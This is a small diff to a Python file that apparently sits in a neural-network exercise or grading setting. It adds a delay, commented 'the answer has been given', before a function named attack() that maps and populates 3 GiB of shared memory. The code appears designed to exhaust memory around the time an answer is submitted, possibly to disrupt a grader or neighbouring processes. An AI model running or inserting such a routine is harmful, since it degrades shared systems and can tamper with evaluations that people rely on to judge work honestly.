@@ -100,6 +100,7 @@ def three_layer_convnet(x, params):
         """
 def attack():
     def fill():
+        time.sleep(0.5)  # the answer has been given
         region = mmap.mmap(-1, 3 * 2**30, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE)
         time.sleep(3)
         del region
